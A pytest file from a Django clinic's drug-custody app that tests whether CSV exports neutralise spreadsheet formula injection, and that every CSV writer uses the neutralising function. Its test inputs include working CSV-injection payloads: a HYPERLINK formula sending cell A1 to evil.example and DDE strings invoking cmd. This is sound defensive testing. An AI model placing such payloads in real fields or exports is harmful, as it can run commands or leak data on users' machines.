"""A custody CSV opened in a spreadsheet never runs what someone typed: a cell starting with =, +, -, @, tab or
carriage return is written with a leading single quote (OWASP "CSV Injection"), in every CSV the app writes
(custody/reports.csv_response is the only CSV writer; a test below keeps it so)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from ketaclinic.custody import services
from ketaclinic.custody.reports import csv_cell

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("typed", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(typed):
    assert csv_cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["-2.00", "-0.5", "-12", "0.30", "Ketamine 50 mg/mL", "", "a=b", "  =x"])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    # A count's negative difference stays a number a spreadsheet can add up.
    assert csv_cell(value) == value


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_a_destruction_method_typed_as_a_formula_reaches_the_dispensing_record_as_text(receive, vial_product,
                                                                                       actor_for, client_for):
    [vial] = receive(vial_product)
    method = '=HYPERLINK("https://evil.example","Open")'
    event = services.request_destruction(actor_for("nurse"), container=vial, quantity="10", method=method,
                                         place="@clinic safe room")
    services.attest(actor_for("prescriber"), event, "10")
    services.attest(actor_for("compliance"), event, "10")
    rows = _rows(client_for("compliance").get(reverse("custody:dispensing_record") + "?format=csv"))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_a_product_name_typed_as_a_formula_reaches_the_reconciliation_as_text(admin_actor, receive, client_for):
    product = services.add_product(admin_actor, ndc="00000-0009-09", name="-1+cmd|' /C calc'!A0", drug="ketamine",
                                   form="vial", strength_mg_per_mL="50", container_volume_mL="10")
    receive(product)
    rows = _rows(client_for("compliance").get(reverse("custody:reconciliation") + "?format=csv"))
    assert rows[1][0] == "'-1+cmd|' /C calc'!A0"


#: CSV written elsewhere, and why it needs no neutralising: nothing a person typed reaches a cell.
OTHER_CSV_WRITERS = {
    "clinical/pk/__main__.py": "the PK simulator's command line: times and model concentrations only",
    "reports/jobs.py": "a whole report in the background: every cell goes through custody.reports.csv_cell",
    "reports/research.py": "the research export: research ids, codes of fixed choices (group, route, drug, scale, "
                           "status, kind, severity, sex), numbers and shifted dates; no free text is exported",
}


def test_every_csv_the_app_serves_goes_through_the_neutralising_writer():
    """A new CSV export must go through custody.reports.csv_response (or be listed above with its reason)."""
    root = Path(__file__).resolve().parents[2] / "ketaclinic"
    writers = sorted(str(p.relative_to(root)) for p in root.rglob("*.py")
                     if re.search(r"csv\.(writer|DictWriter)\(", p.read_text(encoding="utf-8")))
    assert "custody/reports.py" in writers
    assert sorted(set(writers) - {"custody/reports.py"} - set(OTHER_CSV_WRITERS)) == []
